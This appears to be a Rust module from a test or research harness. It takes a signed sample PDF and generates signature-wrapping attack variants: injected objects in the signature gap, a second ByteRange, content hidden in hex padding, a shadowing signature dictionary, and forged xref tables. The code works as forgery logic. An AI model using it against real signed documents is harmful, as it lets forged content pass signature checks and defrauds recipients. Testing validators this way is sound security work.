//! Signature wrapping: what was signed is moved aside, and something else stands where a reader looks.

use super::Attack;
use super::update::{end_of, last, other_content};

/// Every form over a signed [`crate::pdfs::simple`] whose signature ends the file.
pub fn signature_wrapping(signed: &[u8]) -> Vec<Attack> {
    let gap = Gap::of(signed);
    let injected = |gap_at: usize| malicious(signed, gap_at);
    let plain = injected(gap.contents_end);
    vec![
        Attack::new(
            "injected between gap and second part",
            gap.moved(signed, &gap.contents, &plain),
        ),
        Attack::new(
            "a second ByteRange in the gap, second part moved",
            gap.with_second_range(signed, &injected),
        ),
        Attack::new("objects inside the hex string", gap.inside_contents(signed)),
        Attack::new("objects instead of the padding", gap.instead_of_padding(signed, true)),
        Attack::new("a longer gap by spaces", gap.moved(signed, &gap.contents, &[b' '; 512])),
        Attack::new(
            "the gap between the parts shortened",
            gap.moved(signed, &gap.unpadded(), b""),
        ),
        Attack::new(
            "a comment after the gap",
            gap.moved(signed, &gap.contents, b"%wrapped\n"),
        ),
        Attack::new(
            "objects before the header",
            [other_content().as_bytes(), b"\n", signed].concat(),
        ),
        Attack::new(
            "padding with a second dictionary",
            gap.instead_of_padding(signed, false),
        ),
    ]
}

/// The hole in what is signed.
struct Gap {
    start: usize,
    contents_end: usize,
    contents: Vec<u8>,
}

impl Gap {
    fn of(signed: &[u8]) -> Self {
        let start = last(signed, b"/Contents <") + b"/Contents ".len();
        let length = signed[start..].iter().position(|byte| *byte == b'>').expect("an end") + 1;
        Self {
            start,
            contents_end: start + length,
            contents: signed[start..start + length].to_vec(),
        }
    }

    /// First part, some gap, injected bytes, second part.
    fn moved(&self, signed: &[u8], gap: &[u8], injected: &[u8]) -> Vec<u8> {
        let (first, second) = (&signed[..self.start], &signed[self.contents_end..]);
        [first, gap, injected, second].concat()
    }

    /// The hex string without its padding.
    fn unpadded(&self) -> Vec<u8> {
        let digits = &self.contents[1..self.contents.len() - 1];
        let used = digits.iter().rposition(|digit| *digit != b'0').map_or(0, |at| at + 1);
        let used = used + used % 2;
        [b"<", &digits[..used], b">"].concat()
    }

    /// The padding gives room for another `ByteRange` that points at the moved second part.
    fn with_second_range(&self, signed: &[u8], injected: &dyn Fn(usize) -> Vec<u8>) -> Vec<u8> {
        let second = signed.len() - self.contents_end;
        let mut gap = self.unpadded();
        let body = injected(self.start + gap.len() + 128);
        let moved_to = self.start + gap.len() + 128 + body.len();
        let range = format!("/ByteRange [0 {} {moved_to} {second}]", self.start);
        gap.extend(range.bytes());
        gap.resize(self.unpadded().len() + 128, b' ');
        gap.extend(body);
        [&signed[..self.start], &gap, &signed[self.contents_end..]].concat()
    }

    fn inside_contents(&self, signed: &[u8]) -> Vec<u8> {
        let mut gap = self.unpadded();
        gap.pop();
        let body = malicious(signed, self.start + gap.len());
        gap.extend(body);
        gap.resize(self.contents.len() - 1, b'0');
        gap.push(b'>');
        [&signed[..self.start], &gap, &signed[self.contents_end..]].concat()
    }

    /// Everything keeps its place; what was padding becomes objects, or an entry that shadows others.
    fn instead_of_padding(&self, signed: &[u8], objects: bool) -> Vec<u8> {
        let mut gap = self.unpadded();
        let filling = if objects {
            malicious(signed, self.start + gap.len())
        } else {
            b"/Contents <3000>/Type/Sig/Name(Mallory)".to_vec()
        };
        gap.extend(filling);
        gap.resize(self.contents.len(), b' ');
        [&signed[..self.start], &gap, &signed[self.contents_end..]].concat()
    }
}

/// Content for the page with a table and a trailer of its own, for a file that it is put into at a place.
fn malicious(signed: &[u8], at: usize) -> Vec<u8> {
    let end = end_of(signed);
    let object = format!("\n5 0 obj\n{}\nendobj\n", other_content());
    let table = format!(
        "xref\n5 1\n{:010} 00000 n \ntrailer\n<< /Size {} /Root 1 0 R /Prev {} >>\nstartxref\n{}\n%%EOF\n",
        at + 1,
        end.size,
        end.section,
        at + object.len()
    );
    (object + &table).into_bytes()
}
